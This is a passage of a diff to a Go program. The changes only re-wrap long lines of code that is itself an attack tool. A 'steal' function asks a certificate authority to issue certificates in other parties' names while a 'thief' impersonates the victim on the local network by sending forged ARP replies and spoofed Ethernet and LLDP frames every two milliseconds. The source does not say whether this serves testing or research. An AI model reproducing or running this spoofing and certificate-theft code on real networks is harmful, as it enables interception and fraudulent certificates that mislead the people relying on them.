@@ -37,15 +37,16 @@ type thief struct {
 	out  stolen
 }
 
-// steal asks the CA for certificates in the names of others, all at once, while it takes the victim's place by every way that is
-// known.
+// steal asks the CA for certificates in the names of others, all at once, while it takes the victim's place by every
+// way that is known.
 func steal(s scene, directory string, names []string, limit time.Duration) (stolen, error) {
 	w, err := open(s.iface)
 	if err != nil {
 		return stolen{}, err
 	}
 	defer w.close()
-	t := &thief{scene: s, wire: w, keys: map[string]string{}, out: stolen{Issued: map[string]string{}, Refused: map[string]string{}}}
+	t := &thief{scene: s, wire: w, keys: map[string]string{},
+		out: stolen{Issued: map[string]string{}, Refused: map[string]string{}}}
 	ctx, cancel := context.WithTimeout(context.Background(), limit)
 	defer cancel()
 	var crew, lies sync.WaitGroup
@@ -87,7 +88,8 @@ func (t *thief) lie(ctx context.Context) {
 	answer := arp(2, t.own.mac, t.victim.ip, t.target.mac, t.target.ip)
 	group := []byte{0x01, 0x80, 0xc2, 0, 0, 0x0e}
 	for _, tags := range [][][2]int{nil, {{tagC, 0}}} {
-		frames = append(frames, ether(t.host.mac, t.victim.mac, tags, typeIPv4, claim), ether(t.host.mac, t.victim.mac, tags, 0x88b5, claim),
+		frames = append(frames, ether(t.host.mac, t.victim.mac, tags, typeIPv4, claim),
+			ether(t.host.mac, t.victim.mac, tags, 0x88b5, claim),
 			ether(group, t.victim.mac, tags, 0x88cc, claim), ether(t.target.mac, t.own.mac, tags, typeARP, answer))
 	}
 	tick := time.NewTicker(2 * time.Millisecond)
